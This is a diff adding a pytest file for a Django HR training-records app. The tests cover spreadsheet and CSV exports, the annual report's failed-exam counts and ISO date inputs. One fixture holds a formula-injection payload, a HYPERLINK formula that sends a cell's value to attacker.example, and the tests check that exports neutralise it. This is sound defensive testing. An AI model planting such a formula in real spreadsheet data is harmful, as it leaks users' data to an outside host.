@@ -1,0 +1,132 @@
+"""HR exports (lists and the annual report): typed cells (hours are numbers), formulas
+neutralised, header frozen; the annual report counts failed exams and does not hide a
+failing query; the manual hours form's date input gets an ISO value."""
+import datetime
+import io
+import re
+from decimal import Decimal
+
+import pytest
+from django.db import DatabaseError
+from django.urls import reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from officers import exports, qualifications
+from officers.hr_lists import scoped_officers
+from officers.models import SOURCE_MANUAL, HoursEntry, QualificationType
+from tests.factories import make_user
+
+pytestmark = pytest.mark.django_db
+
+FORMULA = '=HYPERLINK("http://attacker.example/?x="&A2,"点我")'
+
+
+@pytest.fixture
+def base_type(db):
+    return QualificationType.objects.create(code="BASE", name="行政执法资格", is_base=True, validity_months=12,
+                                            min_hours_per_year=Decimal("60"))
+
+
+@pytest.fixture
+def person(units, base_type):
+    officer = make_user(unit=units["SZ-JB-01"], full_name=FORMULA[:50], employee_number="EXP001",
+                        training_tier="inservice").officer
+    HoursEntry.objects.create(officer=officer, hours=Decimal("40.0"), source=SOURCE_MANUAL, description="培训",
+                              date=timezone.localdate())
+    qualifications.grant(officer, base_type, reason="测试")
+    qualifications.evaluate(officer)
+    return officer
+
+
+def sheet(response):
+    return load_workbook(io.BytesIO(response.content)).active
+
+
+def row_of(ws, employee_number):
+    return next(r for r in ws.iter_rows(min_row=2) if r[0].value == employee_number)
+
+
+def test_hr_list_xlsx_has_numeric_hours_frozen_header_and_no_formula(client, hr_user, person):
+    client.force_login(hr_user)
+    ws = sheet(client.get("/hr/lists/all/export.xlsx"))
+    header = [c.value for c in ws[1]]
+    row = {h: c for h, c in zip(header, row_of(ws, "EXP001"))}
+    hours = row["本年学时"]
+    assert hours.data_type == "n" and hours.value == 40 and hours.number_format == "0.0"
+    assert row["姓名"].data_type == "s" and row["姓名"].value == FORMULA[:50]
+    assert row["取得日期"].is_date and row["取得日期"].value.date() == timezone.localdate()
+    assert row["培训层级"].value == "岗位培训"
+    assert ws.freeze_panes == "A2" and ws[1][0].font.b
+    assert ws.column_dimensions["C"].width >= 10  # the unit's name fits
+
+
+def test_hr_list_csv_neutralises_formulas_and_keeps_numbers(client, hr_user, person):
+    client.force_login(hr_user)
+    text = b"".join(client.get("/hr/lists/all/export.csv").streaming_content).decode("utf-8-sig")
+    line = next(line for line in text.splitlines() if line.startswith("EXP001"))
+    assert ",'=HYPERLINK(" in line.replace('"', "")
+    assert ",40.0," in line
+
+
+def test_annual_report_counts_failed_exams_and_hours_as_numbers(client, hr_user, person, base_type):
+    from exams.models import Exam, Sitting
+
+    exam = Exam.objects.create(title="年度考试", kind="annual")
+    now = timezone.now()
+    for attempt, passed in ((1, False), (2, False), (3, True)):
+        Sitting.objects.create(exam=exam, officer=person, attempt=attempt, status="graded", passed=passed,
+                               percent=40, started_at=now, ended_at=now, released_at=now)
+    Sitting.objects.create(exam=exam, officer=person, attempt=4, status="graded", passed=False, percent=40,
+                           started_at=now, ended_at=now - datetime.timedelta(days=800),
+                           released_at=now)  # another year
+    year = timezone.localdate().year
+    rows = exports.report_rows(scoped_officers(hr_user, ""), base_type, year)
+    mine = next(r for r in rows if r[0] == "EXP001")
+    assert mine[7] == 2  # 考试未通过: the two failed sittings of the year
+    client.force_login(hr_user)
+    r = client.get(reverse("officers:hr_report"), {"format": "xlsx", "year": year})
+    ws = sheet(r)
+    header = [c.value for c in ws[1]]
+    row = {h: c for h, c in zip(header, row_of(ws, "EXP001"))}
+    assert row[f"{year} 年学时"].data_type == "n" and row[f"{year} 年学时"].value == 40
+    assert row["要求学时"].data_type == "n" and row["要求学时"].value == 60
+    assert row["考试未通过"].value == 2
+    assert ws.freeze_panes == "A2"
+    page = client.get(reverse("officers:hr_report"), {"year": year}).content.decode()
+    cells = re.findall(r"<td>(.*?)</td>", re.search(r"<tr><td>EXP001</td>.*?</tr>", page, re.S).group(0))
+    assert (Decimal(cells[4]), Decimal(cells[5]), cells[6], cells[7]) == (40, 60, "0", "2")
+
+
+def test_annual_report_does_not_hide_a_failing_query(hr_user, person, base_type, monkeypatch):
+    """A database error while counting failed exams is an error, not "0 failed"."""
+    from exams.models import Sitting
+
+    def broken(*args, **kwargs):
+        raise DatabaseError("no such table: exams_sitting")
+
+    monkeypatch.setattr(Sitting.objects, "filter", broken)
+    with pytest.raises(DatabaseError):
+        exports.report_rows(scoped_officers(hr_user, ""), base_type, timezone.localdate().year)
+
+
+@pytest.mark.parametrize("language", ["zh-hans", "en"])
+def test_manual_hours_date_input_has_an_iso_value(client, hr_user, officer_user, language):
+    client.cookies["django_language"] = language
+    client.force_login(hr_user)
+    officer = officer_user.officer
+    body = client.get(officer.get_absolute_url(), HTTP_ACCEPT_LANGUAGE=language).content.decode()
+    today = timezone.localdate()
+    assert f'type="date" name="date" value="{today.isoformat()}"' in body
+    assert today.strftime("%Y/%m/%d") not in body
+    r = client.post(reverse("officers:hours_add", args=[officer.pk]),
+                    {"hours": "2", "date": "2026-03-05", "reason": "线下培训"})
+    assert r.status_code == 302
+    assert officer.hours.get(reason="线下培训").date == datetime.date(2026, 3, 5)
+
+
+def test_course_assignment_due_date_input_has_an_iso_value(hr_user):
+    from courses.forms import AssignmentForm
+
+    form = AssignmentForm(user=hr_user, initial={"due_date": datetime.date(2026, 12, 6)})
+    assert 'value="2026-12-06"' in str(form["due_date"])
